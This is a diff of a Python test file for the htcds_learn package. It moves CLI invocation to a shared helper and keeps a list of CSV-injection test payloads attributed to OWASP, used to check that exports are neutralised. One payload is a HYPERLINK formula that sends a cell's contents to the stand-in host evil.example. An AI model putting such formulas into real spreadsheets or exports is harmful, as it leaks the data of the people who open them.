@@ -8,8 +8,6 @@ from __future__ import annotations
 import csv
 import os
 import re
-import subprocess
-import sys
 import zipfile
 
 import pandas as pd
@@ -19,6 +17,7 @@ import htcds_learn as hl
 from htcds_learn import io
 from htcds_learn._util import files
 from htcds_learn.io.writers import OutputError
+from tests._cli import run_cli
 
 # Payloads from OWASP's CSV-injection page, and what a data officer's data really holds.
 FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A2,"Click")', "@SUM(1+1)",
@@ -28,9 +27,7 @@ HARMLESS = ["+234 803 555 0100", "+966469726359", "-12.5", "-", "Ana", "O'Brien"
             "2024-03-09", ""]
 
 
-def run(*args):
-    return subprocess.run([sys.executable, "-m", "htcds_learn.cli", *args],
-                          capture_output=True, text=True)
+run = run_cli
 
 
 def spreadsheet_would_run(cell: str) -> bool:
